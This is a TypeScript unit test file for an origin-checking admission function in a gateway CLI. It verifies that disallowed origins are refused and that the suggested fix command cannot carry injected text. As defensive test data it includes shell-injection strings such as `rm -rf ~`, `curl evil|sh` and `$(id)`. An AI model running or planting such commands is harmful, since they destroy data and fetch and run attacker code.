// Which origins are welcome is decided in listener/origin.ts; here is how a page learns that it is not.

import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { checkOrigin } from '../../src/admission/check-origin.ts'
import { client, connecting, LOCAL, REMOTE } from './candidates.ts'

const judge = (
  origin: string | undefined,
  changes: { locality?: typeof LOCAL; id?: 'cli' | 'openclaw-control-ui' } = {},
) =>
  checkOrigin(() => ['https://allowed.example'])(
    connecting(
      { client: client(changes.id ?? 'cli', 'ui') },
      {
        locality: changes.locality ?? LOCAL,
        headers: { host: '127.0.0.1:18789', ...(origin === undefined ? {} : { origin }) },
      },
    ),
  )

describe('a page', () => {
  test('of an allowed or local origin may go on; so may whoever is no page', () => {
    for (const origin of ['https://allowed.example', 'http://127.0.0.1:5173', undefined]) assert.ok(judge(origin).ok)
  })

  test('of another origin is refused, with the reason and what the owner can do', () => {
    const verdict = judge('https://evil.example', { locality: REMOTE })
    assert.ok(!verdict.ok)
    const { error, options } = verdict.refusal
    assert.equal(error, 'CONTROL_UI_ORIGIN_NOT_ALLOWED')
    assert.deepEqual(options.details, { reason: 'origin not allowed' })
    assert.equal(
      options.nextCommand,
      `breakwater config set gateway.controlUi.allowedOrigins '["https://evil.example"]'`,
    )
  })

  test('that claims to be the Control UI without an origin is refused', () => {
    const verdict = judge(undefined, { id: 'openclaw-control-ui' })
    assert.ok(!verdict.ok)
    assert.deepEqual(verdict.refusal.options.details, { reason: 'origin missing or invalid' })
  })

  test('cannot put words of its own into the command', () => {
    for (const origin of [
      `https://x'; rm -rf ~; '`,
      'https://x"]\' && curl evil|sh #',
      'https://x$(id)',
      'https://x`id`',
      'null',
      `https://${'x'.repeat(500)}`,
      'https://a b',
    ]) {
      const verdict = judge(origin)
      assert.ok(!verdict.ok, origin)
      const { nextCommand } = verdict.refusal.options
      assert.equal(nextCommand, `breakwater config set gateway.controlUi.allowedOrigins '["<origin>"]'`, origin)
    }
  })
})
